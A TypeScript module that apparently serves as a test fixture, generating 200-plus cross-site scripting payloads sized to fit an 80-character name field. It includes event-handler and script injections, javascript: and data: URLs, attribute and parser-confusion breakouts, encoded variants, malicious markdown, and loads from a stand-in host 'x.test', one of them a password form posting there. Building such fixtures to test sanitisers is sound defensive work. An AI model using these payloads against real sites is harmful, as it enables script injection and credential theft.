/**
 * 200 texts that would do harm if a page took them for anything but text: most want to run code, the rest to load
 * something. Each fits into a name, of 80 characters on one line, once its newlines are spaces.
 */

/** Where nothing may be fetched from. */
export const EVIL_HOST = 'x.test';

/** What the code does: leaves a mark on the page, or opens a dialog. */
export const MARK = '__xss';
const CODES = [`${MARK}=1`, 'alert(1)'];

type Vector = (code: string) => string;

const handlers: Vector[] = [
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<IMG/SRC=x/ONERROR='${js}'//>`,
  (js) => `<img src=x\n\nonerror\n=\n${js} >`,
  (js) => `<img src="/icon.svg" onload="${js}">`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><set onbegin=${js} attributeName=x>`,
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js}>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<button popovertarget=p>x</button><p popover id=p ontoggle=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<iframe onload=${js}></iframe>`,
  (js) => `<style>@keyframes k{}</style><b style=animation-name:k onanimationend=${js}>`,
  (js) => `<b contenteditable onbeforeinput=${js} tabindex=1 onfocus=${js}>x</b>`,
  (js) => `<img src=x onerror=&#x${js.charCodeAt(0).toString(16)};${js.slice(1)}>`,
  (js) => `<img src=x onerror=eval(atob('${btoa(js)}'))>`,
];

const elements: Vector[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT >`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe src="data:text/html,<script>top.${js}</script>"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<form><button formaction="javascript:${js}">x</button></form>`,
  (js) => `<form action="javascript:${js}"><input type=submit></form>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="java&#115;cript:${js}">x</a>`,
  (js) => `<a href="jav&Tab;ascript:${js}">x</a>`,
  (js) => `<a href="&#1;javascript&colon;${js}">x</a>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`,
  (js) => `<math href="javascript:${js}">x</math>`,
];

/** What breaks out of where it was put, or changes its meaning when it is parsed a second time. */
const breakouts: Vector[] = [
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `--></style><svg onload=${js}>`,
  (js) => `" autofocus onfocus="${js}" x="`,
  (js) => `' onmouseover='${js}' x='`,
  (js) => `\\";${js};//`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!-- --!><img src=x onerror=${js}> -->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<?x ><img src=x onerror=${js}>?>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<template><p></template><svg onload=${js}>`,
  (js) => `<xmp><p title="</xmp><svg onload=${js}>">`,
];

const templates: Vector[] = [
  (js) => `\${${js}}`,
  (js) => `\`-${js}-\``,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `<%= ${js} %>`,
  (js) => `\\u003cimg src=x onerror=${js}\\u003e`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `\uff1cscript\uff1e${js}\uff1c/script\uff1e`,
  (js) => `<s\u200bcript>${js}</s\u200bcript>`,
  (js) => `\u202e<svg onload=${js}>`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
];

const markdown: Vector[] = [
  (js) => `javascript:${js}`,
  (js) => `javascript://${EVIL_HOST}/%0a${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `<javascript:${js}>`,
  (js) => `[x](javascript:${js})`,
  (js) => `[x](JaVaScRiPt:${js})`,
  (js) => `[x](java&#115;cript:${js})`,
  (js) => `[x](<java\tscript:${js}>)`,
  (js) => `[x](vbscript:${js})`,
  (js) => `[x](data:text/html;base64,${btoa(`<script>${js}</script>`)})`,
  (js) => `[x][y]\n\n[y]: javascript:${js}`,
  (js) => `![x](javascript:${js})`,
  (js) => `![x](x"onerror="${js})`,
  (js) => `[x](x '"onmouseover="${js}')`,
  (js) => `[<img src=x onerror=${js}>](x)`,
  (js) => `\`\`\`<img src=x onerror=${js}>\`\`\``,
  (js) => `|<img src=x onerror=${js}>|\n|-|`,
  (js) => `> <svg onload=${js}>`,
];

const loads = [
  `<script src=//${EVIL_HOST}/1></script>`,
  `<img src=//${EVIL_HOST}/2>`,
  `<img srcset="//${EVIL_HOST}/3 1x">`,
  `<picture><source srcset=//${EVIL_HOST}/4><img></picture>`,
  `<svg><image href=//${EVIL_HOST}/5 /></svg>`,
  `<svg><use href="//${EVIL_HOST}/6#a"/></svg>`,
  `<video poster=//${EVIL_HOST}/7></video>`,
  `<audio src=//${EVIL_HOST}/8 autoplay></audio>`,
  `<iframe src=//${EVIL_HOST}/9></iframe>`,
  `<object data=//${EVIL_HOST}/10></object>`,
  `<link rel=stylesheet href=//${EVIL_HOST}/11>`,
  `<style>@import '//${EVIL_HOST}/12'</style>`,
  `<style>*{background:url(//${EVIL_HOST}/13)}</style>`,
  `<b style="background:url(//${EVIL_HOST}/14)">x</b>`,
  `<base href=//${EVIL_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL_HOST}/15">`,
  `<form action=//${EVIL_HOST}/16><input name=password autofocus></form>`,
  `![x](https://${EVIL_HOST}/17.png)`,
  `[![x](//${EVIL_HOST}/18.png)](https://${EVIL_HOST})`,
  `![x][y]\n\n[y]: https://${EVIL_HOST}/19.png`,
];

/** Different from one another, 200 of them at least. */
export const XSS_PAYLOADS: readonly string[] = [
  ...[...handlers, ...elements, ...breakouts, ...templates, ...markdown].flatMap((vector) => CODES.map(vector)),
  ...loads,
];

/** As a name has to be. */
export const onOneLine = (payload: string): string => payload.replace(/\s+/g, ' ');
